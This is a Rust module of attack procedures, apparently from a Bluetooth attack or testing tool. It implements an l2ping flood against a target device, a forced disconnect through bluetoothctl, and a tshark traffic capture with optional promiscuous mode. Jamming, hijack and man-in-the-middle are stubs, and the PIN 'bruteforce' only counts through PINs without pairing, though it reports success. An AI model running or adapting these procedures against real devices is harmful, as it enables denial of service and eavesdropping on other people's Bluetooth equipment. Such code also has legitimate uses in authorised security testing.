// Attack procedures, one per AttackKind
// Each returns exactly one ProcedureOutcome; gateway failures are folded into it.

use super::constants::*;
use super::stop::StopToken;
use super::AttackParams;
use crate::config::AttackConfig;
use crate::domain::{AttackKind, MacAddress, ProcedureOutcome, TaskId};
use crate::port::{GatewayCommand, PrivilegedExecutor};
use chrono::{DateTime, Utc};
use serde_json::{json, Map, Value};
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, info, warn};

/// Everything a procedure may use (owned, so it can run on its own task)
pub(crate) struct ProcedureContext {
    pub task_id: TaskId,
    pub kind: AttackKind,
    pub target: MacAddress,
    pub started_at: DateTime<Utc>,
    /// Caller-requested duration after clamping (None = not requested)
    pub requested: Option<Duration>,
    pub params: AttackParams,
    pub config: AttackConfig,
    pub executor: Arc<dyn PrivilegedExecutor>,
    pub stop: StopToken,
}

pub(crate) async fn run(ctx: ProcedureContext) -> ProcedureOutcome {
    match ctx.kind {
        AttackKind::DosFlood => flood(&ctx).await,
        AttackKind::DosJam => {
            warn!(task_id = %ctx.task_id, "RF jamming requires specialized hardware");
            ProcedureOutcome::Failed(
                "Jamming is unsupported: requires specialized hardware".to_string(),
            )
        }
        AttackKind::Deauth => deauth(&ctx).await,
        AttackKind::Hijack => ProcedureOutcome::Failed(
            "Hijacking is not implemented (requires MAC spoofing)".to_string(),
        ),
        AttackKind::PinBruteforce => pin_bruteforce(&ctx).await,
        AttackKind::Mitm => {
            ProcedureOutcome::Failed("Man-in-the-middle has no procedure".to_string())
        }
        AttackKind::PassiveSniff => sniff(&ctx).await,
    }
}

/// Repeated single echo probes until the budget is spent or a stop arrives
async fn flood(ctx: &ProcedureContext) -> ProcedureOutcome {
    let packet_size = ctx
        .params
        .packet_size
        .unwrap_or(ctx.config.flood.packet_size);
    let probe_timeout = ctx
        .params
        .probe_timeout_secs
        .unwrap_or(ctx.config.flood.probe_timeout_secs);
    let interval = Duration::from_millis(ctx.config.flood.probe_interval_ms);
    let target = ctx.target.to_string();

    info!(task_id = %ctx.task_id, target = %target, packet_size, "Starting L2CAP flood");

    let mut packets_sent: u64 = 0;
    let mut errors: u64 = 0;

    while !ctx.stop.should_stop() {
        let cmd = GatewayCommand::new([
            "l2ping".to_string(),
            "-c".to_string(),
            "1".to_string(),
            "-s".to_string(),
            packet_size.to_string(),
            "-t".to_string(),
            probe_timeout.to_string(),
            target.clone(),
        ])
        .timeout(Duration::from_secs(probe_timeout) + PROBE_GATEWAY_GRACE);

        match ctx.executor.execute(cmd).await {
            Ok(output) if output.success() => packets_sent += 1,
            Ok(output) => {
                errors += 1;
                debug!(exit_code = ?output.exit_code, stderr = %output.stderr.trim(), "l2ping probe failed");
            }
            Err(e) => {
                errors += 1;
                debug!(error = %e, timeout = e.is_timeout(), "l2ping probe error");
            }
        }

        ctx.stop.pause(interval).await;
    }

    let elapsed = ctx.stop.elapsed().as_secs_f64();
    info!(
        task_id = %ctx.task_id,
        packets = packets_sent,
        errors,
        "L2CAP flood completed"
    );

    ProcedureOutcome::Success(details([
        ("packets_sent", json!(packets_sent)),
        ("errors", json!(errors)),
        ("duration_seconds", json!(elapsed)),
    ]))
}

async fn deauth(ctx: &ProcedureContext) -> ProcedureOutcome {
    let target = ctx.target.to_string();
    info!(task_id = %ctx.task_id, target = %target, "Starting deauthentication");

    let cmd = GatewayCommand::new(["bluetoothctl", "disconnect", target.as_str()])
        .timeout(DISCONNECT_TIMEOUT);

    match ctx.executor.execute(cmd).await {
        Ok(output) if output.success() => {
            info!(task_id = %ctx.task_id, target = %target, "Deauthentication successful");
            ProcedureOutcome::Success(details([
                ("method", json!("bluetoothctl_disconnect")),
                ("elevation", json!(output.elevation.to_string())),
            ]))
        }
        Ok(output) => {
            ProcedureOutcome::Failed(format!("bluetoothctl failed: {}", output.stderr.trim()))
        }
        Err(e) => ProcedureOutcome::Failed(e.to_string()),
    }
}

/// Walk the 4-digit PIN space from the start offset (no real pairing attempted)
async fn pin_bruteforce(ctx: &ProcedureContext) -> ProcedureOutcome {
    let start = ctx.params.start_pin.unwrap_or(ctx.config.pin.start_pin);
    let max_attempts = ctx
        .params
        .max_attempts
        .unwrap_or(ctx.config.pin.max_attempts);
    let end = start.saturating_add(max_attempts).min(PIN_SPACE);
    let interval = Duration::from_millis(ctx.config.pin.attempt_interval_ms);

    info!(task_id = %ctx.task_id, start, end, "Starting PIN bruteforce");

    let mut attempts: u32 = 0;
    let mut last_pin: Option<String> = None;

    for pin in start..end {
        if ctx.stop.should_stop() {
            break;
        }
        let candidate = format!("{pin:04}");
        debug!(pin = %candidate, "Trying PIN");
        attempts += 1;
        last_pin = Some(candidate);

        ctx.stop.pause(interval).await;
    }

    info!(task_id = %ctx.task_id, attempts, "PIN bruteforce completed");
    ProcedureOutcome::Success(details([
        ("attempts", json!(attempts)),
        ("found", json!(false)),
        ("last_pin", json!(last_pin)),
    ]))
}

/// One capture run; a stop request abandons the gateway call
async fn sniff(ctx: &ProcedureContext) -> ProcedureOutcome {
    let interface = ctx
        .params
        .interface
        .clone()
        .unwrap_or_else(|| ctx.config.sniff.interface.clone());
    let output_file = ctx.params.output_file.clone().unwrap_or_else(|| {
        format!(
            "{}/sniff_{}.pcap",
            ctx.config.sniff.capture_dir.trim_end_matches('/'),
            ctx.started_at.timestamp()
        )
    });

    let mut argv = vec![
        "tshark".to_string(),
        "-i".to_string(),
        interface,
        "-w".to_string(),
        output_file.clone(),
    ];
    if !ctx.params.promiscuous {
        argv.push("-f".to_string());
        argv.push(capture_filter(&ctx.target.to_string()));
    }

    // Autostop at the requested duration, else at the remaining budget
    let cap = ctx.requested.unwrap_or_else(|| ctx.stop.remaining());
    let cap_secs = cap.as_secs().max(1);
    argv.push("-a".to_string());
    argv.push(format!("duration:{cap_secs}"));

    let cmd = GatewayCommand::new(argv)
        .timeout(Duration::from_secs(cap_secs) + CAPTURE_GATEWAY_GRACE);

    info!(task_id = %ctx.task_id, output = %output_file, duration_secs = cap_secs, "Starting capture");

    let result = tokio::select! {
        result = ctx.executor.execute(cmd) => result,
        _ = ctx.stop.cancelled() => {
            info!(task_id = %ctx.task_id, "Capture interrupted");
            return ProcedureOutcome::Success(details([
                ("capture_file", json!(output_file)),
                ("interrupted", json!(true)),
            ]));
        }
    };

    match result {
        Ok(output) if output.success() => {
            info!(task_id = %ctx.task_id, output = %output_file, "Capture completed");
            ProcedureOutcome::Success(details([("capture_file", json!(output_file))]))
        }
        Ok(output) => ProcedureOutcome::Failed(format!("tshark failed: {}", output.stderr.trim())),
        Err(e) => ProcedureOutcome::Failed(e.to_string()),
    }
}

fn details<const N: usize>(entries: [(&str, Value); N]) -> Map<String, Value> {
    entries
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect()
}
